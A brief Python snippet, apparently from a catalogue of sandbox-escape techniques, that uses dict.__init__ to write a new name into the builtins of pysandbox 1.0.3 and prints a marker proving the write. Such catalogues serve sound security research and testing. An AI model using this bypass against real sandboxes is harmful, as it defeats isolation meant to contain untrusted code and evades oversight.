# technique: dict.__init__ updates a dict that exists
# goal: bend
# source: pysandbox 1.0.3, builtins changed by dict.__init__
b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
dict.__init__(b, planted='ESCAPED builtins written')
print(planted)
